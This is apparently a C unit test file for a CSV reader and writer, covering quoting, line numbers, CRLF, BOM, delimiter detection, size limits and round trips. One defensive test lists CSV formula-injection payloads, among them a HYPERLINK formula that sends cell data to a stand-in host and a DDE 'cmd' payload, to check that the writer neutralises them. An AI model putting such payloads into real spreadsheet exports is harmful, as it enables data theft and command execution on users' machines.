/*
 * test_csv.c -- the CSV reader and writer: RFC 4180 quoting, line numbers, CRLF, BOM, delimiter detection,
 * limits, rows spanning the reader's blocks, and writer/reader round trips.
 */
#include "cb_test.h"

#include "io/csv.h"

struct parsed {
	int nrows;
	long lines[64];
	int nfields[64];
	char cells[64][8][64];
	char raw[64][128];
	char delim;
	int rc; /* last cb_csv_next result */
	struct cb_err err;
};

static void parse(const char *text, size_t len, char delim, struct parsed *out)
{
	memset(out, 0, sizeof *out);
	FILE *f = fmemopen((void *)text, len, "rb");
	assert_non_null(f);
	struct cb_csv *r;
	assert_int_equal(cb_csv_new(&r, f, delim), CB_OK);
	struct cb_csv_row row;
	while ((out->rc = cb_csv_next(r, &row, &out->err)) == 1) {
		int i = out->nrows++;
		assert_true(i < 64);
		out->lines[i] = row.line;
		out->nfields[i] = row.nfields;
		for (int k = 0; k < row.nfields && k < 8; k++)
			snprintf(out->cells[i][k], 64, "%s", row.fields[k]);
		snprintf(out->raw[i], 128, "%.*s", (int)row.rawlen, row.raw);
	}
	out->delim = cb_csv_delim(r);
	cb_csv_free(&r);
	assert_null(r);
	fclose(f);
}

static void test_simple_lf_and_line_numbers(void **state)
{
	(void)state;
	struct parsed p;
	const char *t = "a,b,c\n1,2,3\n\n4,,6";
	parse(t, strlen(t), ',', &p);
	assert_int_equal(p.rc, 0);
	assert_int_equal(p.nrows, 3);
	assert_int_equal(p.lines[0], 1);
	assert_int_equal(p.lines[1], 2);
	assert_int_equal(p.lines[2], 4); /* the empty line 3 is skipped but counted */
	assert_int_equal(p.nfields[2], 3);
	assert_string_equal(p.cells[2][1], "");
	assert_string_equal(p.cells[2][2], "6");
	assert_string_equal(p.raw[1], "1,2,3");
}

static void test_crlf(void **state)
{
	(void)state;
	struct parsed p;
	const char *t = "a,b\r\n\"x\",y\r\n\r\nlast,\"q\"\r\n";
	parse(t, strlen(t), ',', &p);
	assert_int_equal(p.rc, 0);
	assert_int_equal(p.nrows, 3);
	assert_string_equal(p.cells[0][1], "b");
	assert_string_equal(p.cells[1][0], "x");
	assert_string_equal(p.cells[1][1], "y");
	assert_string_equal(p.raw[1], "\"x\",y");
	assert_int_equal(p.lines[2], 4);
	assert_string_equal(p.cells[2][1], "q");
}

static void test_quotes_and_embedded_newlines(void **state)
{
	(void)state;
	struct parsed p;
	const char *t = "id,note\n1,\"say \"\"hi\"\", then\nleave;\r\nnow\"\n2,\"\"\n3,a\"b\n";
	parse(t, strlen(t), ',', &p);
	assert_int_equal(p.rc, 0);
	assert_int_equal(p.nrows, 4);
	assert_string_equal(p.cells[1][1], "say \"hi\", then\nleave;\r\nnow");
	assert_int_equal(p.lines[1], 2);
	assert_int_equal(p.lines[2], 5); /* the quoted field spanned lines 2-4 */
	assert_string_equal(p.cells[2][1], "");
	assert_string_equal(p.cells[3][1], "a\"b"); /* a stray quote inside an unquoted field is data */
}

static void test_bom_and_detection(void **state)
{
	(void)state;
	struct parsed p;
	const char *t = "\xEF\xBB\xBF\"notice, with; commas, here\";a;b\n;1;2\n";
	parse(t, strlen(t), 0, &p);
	assert_int_equal(p.rc, 0);
	assert_int_equal(p.delim, ';');
	assert_int_equal(p.nrows, 2);
	assert_string_equal(p.cells[0][0], "notice, with; commas, here");
	assert_string_equal(p.cells[1][0], "");
	assert_string_equal(p.cells[1][2], "2");

	const char *c = "\xEF\xBB\xBFx,y;z\n1,2\n";
	parse(c, strlen(c), 0, &p);
	assert_int_equal(p.delim, ',');
	assert_string_equal(p.cells[0][0], "x");
	assert_string_equal(p.cells[0][1], "y;z");

	parse("", 0, 0, &p);
	assert_int_equal(p.rc, 0);
	assert_int_equal(p.nrows, 0);
}

static void test_errors_name_the_line(void **state)
{
	(void)state;
	struct parsed p;
	const char *t = "a,b\n1,2\n3,\"open\n4,5\n";
	parse(t, strlen(t), ',', &p);
	assert_int_equal(p.rc, CB_EINVAL);
	assert_int_equal(p.nrows, 2);
	assert_int_equal(p.err.line, 3);
	assert_non_null(strstr(p.err.msg, "line 3"));

	const char *q = "a,b\n\"x\"y,2\n";
	parse(q, strlen(q), ',', &p);
	assert_int_equal(p.rc, CB_EINVAL);
	assert_int_equal(p.err.line, 2);

	/* 513 fields */
	char many[2048] = "";
	for (int i = 0; i < 512; i++)
		strcat(many, "x,");
	strcat(many, "x\n");
	parse(many, strlen(many), ',', &p);
	assert_int_equal(p.rc, CB_EINVAL);
	assert_non_null(strstr(p.err.msg, "512"));
}

static void test_row_too_long(void **state)
{
	(void)state;
	size_t n = CB_CSV_MAX_ROW + 100;
	char *t = malloc(n + 16);
	assert_non_null(t);
	memcpy(t, "a\n", 2);
	memset(t + 2, 'x', n);
	memcpy(t + 2 + n, "\nb\n", 4);
	struct parsed p;
	parse(t, n + 5, ',', &p);
	assert_int_equal(p.rc, CB_EINVAL);
	assert_int_equal(p.nrows, 1);
	assert_int_equal(p.err.line, 2);
	free(t);

	/* exactly at the limit is fine */
	t = malloc(CB_CSV_MAX_ROW + 2);
	memset(t, 'y', CB_CSV_MAX_ROW);
	t[CB_CSV_MAX_ROW] = '\n';
	FILE *f = fmemopen(t, CB_CSV_MAX_ROW + 1, "rb");
	struct cb_csv *r;
	struct cb_csv_row row;
	assert_int_equal(cb_csv_new(&r, f, ','), CB_OK);
	assert_int_equal(cb_csv_next(r, &row, NULL), 1);
	assert_int_equal(row.rawlen, CB_CSV_MAX_ROW);
	assert_int_equal(strlen(row.fields[0]), CB_CSV_MAX_ROW);
	assert_int_equal(cb_csv_next(r, &row, NULL), 0);
	cb_csv_free(&r);
	fclose(f);
	free(t);
}

static void test_lines_mode(void **state)
{
	(void)state;
	struct parsed p;
	const char *t = "{\"a\":\"x,\\\"y\"}\r\n\n{\"b\":1}";
	parse(t, strlen(t), CB_CSV_LINES, &p);
	assert_int_equal(p.rc, 0);
	assert_int_equal(p.nrows, 2);
	assert_int_equal(p.nfields[0], 1);
	assert_string_equal(p.cells[0][0], "{\"a\":\"x,\\\"y\"}");
	assert_int_equal(p.lines[1], 3);
	assert_string_equal(p.cells[1][0], "{\"b\":1}");
}

/* Many rows with quoted, multi-line fields: every block boundary falls somewhere inside a row. */
static void test_many_rows_across_blocks(void **state)
{
	(void)state;
	char *text = NULL;
	size_t len = 0;
	FILE *w = open_memstream(&text, &len);
	assert_non_null(w);
	const int n = 60000;
	for (int i = 0; i < n; i++) {
		char a[32], b[64];
		snprintf(a, sizeof a, "%d", i);
		snprintf(b, sizeof b, "v \"%d\"\n;,%d", i, i * 7);
		const char *row[3] = {a, b, i % 3 ? "plain" : ""};
		cb_csv_put_row(w, row, 3, ';');
	}
	fclose(w);
	FILE *f = fmemopen(text, len, "rb");
	struct cb_csv *r;
	struct cb_csv_row row;
	struct cb_err err = {0};
	assert_int_equal(cb_csv_new(&r, f, 0), CB_OK);
	int i = 0;
	int rc;
	while ((rc = cb_csv_next(r, &row, &err)) == 1) {
		char b[64];
		snprintf(b, sizeof b, "v \"%d\"\n;,%d", i, i * 7);
		assert_int_equal(row.nfields, 3);
		assert_int_equal(atoi(row.fields[0]), i);
		assert_string_equal(row.fields[1], b);
		assert_int_equal(row.line, 1 + 2L * i);
		i++;
	}
	assert_int_equal(rc, 0);
	assert_int_equal(i, n);
	assert_int_equal(cb_csv_delim(r), ';');
	assert_int_equal(cb_csv_offset(r), (long long)len);
	cb_csv_free(&r);
	fclose(f);
	free(text);
}

static void test_writer_quotes_only_when_needed(void **state)
{
	(void)state;
	char *text = NULL;
	size_t len = 0;
	FILE *w = open_memstream(&text, &len);
	const char *row[6] = {"plain", "a,b", "say \"x\"", " lead", NULL, "semi;colon"};
	cb_csv_put_row(w, row, 6, ',');
	fclose(w);
	assert_string_equal(text, "plain,\"a,b\",\"say \"\"x\"\"\",\" lead\",,semi;colon\n");
	struct parsed p;
	parse(text, len, ',', &p);
	assert_int_equal(p.nrows, 1);
	assert_int_equal(p.nfields[0], 6);
	assert_string_equal(p.cells[0][1], "a,b");
	assert_string_equal(p.cells[0][2], "say \"x\"");
	assert_string_equal(p.cells[0][3], " lead");
	assert_string_equal(p.cells[0][4], "");
	free(text);
}

/* OWASP CSV injection: a cell a spreadsheet would run is written with a ' in front, quoted; numbers stay as
 * they are; the reader takes exactly that ' off, so every value comes back as it was, including values that
 * began with quotes of their own. */
static void test_formulas_neutralised_and_restored(void **state)
{
	(void)state;
	static const char *const cells[] = {
		"=HYPERLINK(\"http://x.example/?d=\"&A1,\"Help\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
		"\tx", "\r=x", "-3", "-1.5", "+7", "2e3", ".5", "-", "'=x", "''+x", "'abc", "'-3", "a=b", "",
	};
	static const char *const written[] = {
		"\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1,\"\"Help\"\")\"", "\"'+1+cmd|' /C calc'!A0\"",
		"\"'-2+3\"", "\"'@SUM(A1:A9)\"", "\"'\tx\"", "\"'\r=x\"", "-3", "-1.5", "+7", "2e3", ".5", "\"'-\"",
		"\"''=x\"", "\"'''+x\"", "'abc", "'-3", "a=b", "",
	};
	enum { N = CB_COUNTOF(cells) };
	for (int i = 0; i < N; i++) {
		char *text = NULL;
		size_t len = 0;
		FILE *w = open_memstream(&text, &len);
		cb_csv_put(w, cells[i], ',');
		fclose(w);
		if (strcmp(text, written[i]) != 0)
			fail_msg("cell %d: wrote [%s], expected [%s]", i, text, written[i]);
		free(text);
	}
	/* rows of them, back through the reader (the parse helper keeps 8 cells a row) */
	for (int from = 0; from < N; from += 8) {
		char *text = NULL;
		size_t len = 0;
		int n = N - from < 8 ? N - from : 8;
		FILE *w = open_memstream(&text, &len);
		cb_csv_put_row(w, cells + from, n, ',');
		fclose(w);
		struct parsed p;
		parse(text, len, ',', &p);
		assert_int_equal(p.nrows, 1);
		assert_int_equal(p.nfields[0], n);
		for (int k = 0; k < n; k++)
			assert_string_equal(p.cells[0][k], cells[from + k]);
		free(text);
	}
	/* what a person typed in a spreadsheet: a ' before plain text or a number stays */
	struct parsed p;
	const char typed[] = "'abc,'-3,'=x,\"'@x\"\n";
	parse(typed, sizeof typed - 1, ',', &p);
	assert_string_equal(p.cells[0][0], "'abc");
	assert_string_equal(p.cells[0][1], "'-3");
	assert_string_equal(p.cells[0][2], "=x");
	assert_string_equal(p.cells[0][3], "@x");
	assert_true(cb_csv_formula("=1"));
	assert_false(cb_csv_formula("-1e-3"));
	assert_false(cb_csv_formula(""));
}

/* Unquoted fields of every length from 0 to 19, so that delimiters and line ends fall at every offset of the
 * reader's eight-byte steps, with ';' as the delimiter (',' is then data), CRLF and LF. */
static void test_field_lengths(void **state)
{
	(void)state;
	struct parsed p;
	for (int shift = 0; shift < 8; shift++) {
		char text[2048], want[8][64];
		size_t o = 0;
		o += (size_t)snprintf(text + o, sizeof text - o, "h;%.*s\n", shift, "xxxxxxx");
		for (int row = 0; row < 20; row++) {
			for (int k = 0; k < 3; k++) {
				int n = (row + k * 7) % 20;
				for (int i = 0; i < n; i++)
					text[o++] = (char)(i % 5 == 4 ? ',' : 'a' + (row + i) % 26);
				if (k < 2)
					text[o++] = ';';
			}
			o += (size_t)snprintf(text + o, sizeof text - o, row % 2 ? "\r\n" : "\n");
		}
		parse(text, o, 0, &p);
		assert_int_equal(p.rc, 0);
		assert_int_equal(p.delim, ';');
		assert_int_equal(p.nrows, 21);
		for (int row = 0; row < 20; row++) {
			assert_int_equal(p.nfields[row + 1], 3);
			for (int k = 0; k < 3; k++) {
				int n = (row + k * 7) % 20;
				for (int i = 0; i < n; i++)
					want[k][i] = (char)(i % 5 == 4 ? ',' : 'a' + (row + i) % 26);
				want[k][n] = 0;
				assert_string_equal(p.cells[row + 1][k], want[k]);
			}
		}
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_simple_lf_and_line_numbers),
		cmocka_unit_test(test_crlf),
		cmocka_unit_test(test_quotes_and_embedded_newlines),
		cmocka_unit_test(test_bom_and_detection),
		cmocka_unit_test(test_errors_name_the_line),
		cmocka_unit_test(test_row_too_long),
		cmocka_unit_test(test_lines_mode),
		cmocka_unit_test(test_many_rows_across_blocks),
		cmocka_unit_test(test_field_lengths),
		cmocka_unit_test(test_writer_quotes_only_when_needed),
		cmocka_unit_test(test_formulas_neutralised_and_restored),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
